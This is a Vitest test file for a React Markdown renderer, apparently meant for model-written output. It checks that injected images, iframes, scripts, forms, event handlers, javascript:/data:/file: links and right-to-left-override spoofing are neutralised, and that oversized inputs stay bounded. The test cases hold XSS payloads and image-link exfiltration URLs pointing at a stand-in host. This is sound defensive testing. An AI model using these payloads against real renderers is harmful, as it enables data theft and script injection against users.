import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { type CodeView, Markdown } from './markdown.tsx'

describe('what cannot do harm', () => {
  test.each<[string, string]>([
    ['an image', '![the secret](https://evil.example/?d=canary)'],
    ['an image by reference', '![the secret][1]\n\n[1]: https://evil.example/?d=canary'],
    ['an image in HTML', 'Look: <img src="https://evil.example/?d=canary"> here'],
    ['an image in a link', '[![x](https://evil.example/?d=canary)](https://evil.example/)'],
    ['a block of HTML', '<iframe src="https://evil.example/"></iframe>'],
    ['a script', '<script>alert(1)</script>'],
    ['a form', '<form action="https://evil.example/"><button>Go</button></form>'],
    ['a style', '<style>body { background: url(https://evil.example/) }</style>'],
    ['an SVG', '<svg onload="alert(1)"></svg>'],
    ['a handler', '<b onmouseover="alert(1)">bold</b>'],
  ])('%s fetches nothing and runs nothing, and can be read', (_case, written) => {
    const html = shown(written)
    expect(html).not.toMatch(/<(?:img|iframe|script|form|style|svg|b|video|object|embed|link|base|meta)\b/)
    expect(html).not.toMatch(/<[^>]+\s(?:src|style|on\w+)=/)
  })

  test('an image is its words and its address', () => {
    expect(textOf(shown('![the secret](https://evil.example/?d=canary)'))).toBe(
      'Image, not loaded: the secret https://evil.example/?d=canary',
    )
  })

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    'mailto:eve@example.com',
    '/logout',
    '//evil.example',
    'javascript&colon;alert(1)',
    '&#106;avascript:alert(1)',
  ])('a link to %s is words', (address) => {
    const html = shown(`[press here](<${address}>)`)
    expect(html).not.toContain('<a')
    expect(textOf(html)).toContain('press here')
  })

  test('a link to the web opens in a window of its own and says where it leads', () => {
    const html = shown('[our guide](https://evil.example/path?d=1)')
    expect(html).toContain('href="https://evil.example/path?d=1"')
    expect(html).toContain('target="_blank"')
    expect(html).toMatch(/rel="noopener noreferrer nofollow"/)
    expect(textOf(html)).toBe('our guide (evil.example)')
  })

  test.each(['[\u202Eclick](https://gro.lqsergtsop.evil/)', '\u202E[click](https://gro.lqsergtsop.evil/)'])(
    'where a link leads is read from left to right, whatever its words turn around: %j',
    (written) => {
      expect(shown(written)).toMatch(/<bdi[^>]*>[^<]*click<\/bdi><\/a> <bdi[^>]*>\(gro\.lqsergtsop\.evil\)<\/bdi>/)
    },
  )
})

describe('what the model writes', () => {
  test.each<[string, string, string]>([
    ['**bold** and *thin*', '<strong', 'bold and thin'],
    ['`a < b & c`', '<code', 'a < b & c'],
    ['# Title', '<h4', 'Title'],
    ['1. one\n2. two', '<ol', 'onetwo'],
    ['3. three\n4. four', 'start="3"', 'threefour'],
    ['- one\n- two', '<ul', 'onetwo'],
    ['- [x] done\n- [ ] open', '<ul', '☑done☐open'],
    ['> said', '<blockquote', 'said'],
    ['a &amp; b &lt; c', '<p', 'a & b < c'],
    ['~~gone~~', '<del', 'gone'],
    ['| a | b |\n|---|---|\n| 1 | **2** |', '<table', 'ab12'],
    ['one  \ntwo', '<br', 'onetwo'],
    ['---', '<hr', ''],
  ])('%j', (written, element, text) => {
    const html = shown(written)
    expect(html).toContain(element)
    expect(textOf(html)).toBe(text)
  })

  test('pieces of code are counted from the beginning, wherever they stand', () => {
    const written =
      '```sql\nselect 1\n```\n\n- item\n\n  ```\n  two\n  ```\n\n> ```JS extra\n> three\n> ```\n\n```sql\nfour'
    expect(textOf(shown(written)).match(/\[[^\]]*\]/g)).toEqual([
      '[0 sql select 1]',
      '[1  two]',
      '[2 js three]',
      '[3 sql four]',
    ])
  })

  test.each<[string, string]>([
    ['cells', `${'|a'.repeat(5_000)}\n${'|-'.repeat(5_000)}\n${'|a\n'.repeat(3_000)}`],
    ['short rows', `${'|a'.repeat(100)}|\n${'|-'.repeat(100)}|\n${'|\n'.repeat(20_000)}`],
    ['words that could be stressed', '_a_'.repeat(16_000)],
    ['words that could be struck out', '~~a'.repeat(16_000)],
    ['brackets', '['.repeat(50_000)],
  ])('many %s become few elements', (_what, written) => {
    expect(shown(written).match(/<\w/g)!.length).toBeLessThan(10_000)
  })

  test('a table of a usual size is one', () => {
    const written = `|${' a |'.repeat(20)}\n|${' - |'.repeat(20)}\n${`|${' b |'.repeat(20)}\n`.repeat(100)}`
    expect(shown(written).match(/<td/g)).toHaveLength(2_000)
  })

  test('a text that is nested too deeply or too long is shown as it is', () => {
    for (const deep of ['>'.repeat(100), '>'.repeat(20_000)]) expect(textOf(shown(deep))).toBe(deep)
    expect(textOf(shown('x'.repeat(300_000)))).toHaveLength(300_000)
  })
})

const Code: CodeView = ({ code, language, index }) => createElement('pre', {}, `[${index} ${language} ${code}]`)

const shown = (text: string) => renderToStaticMarkup(createElement(Markdown, { text, Code }))

const textOf = (html: string) =>
  html
    .replaceAll(/<[^>]*>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#x27;', "'")
    .replaceAll('&amp;', '&')
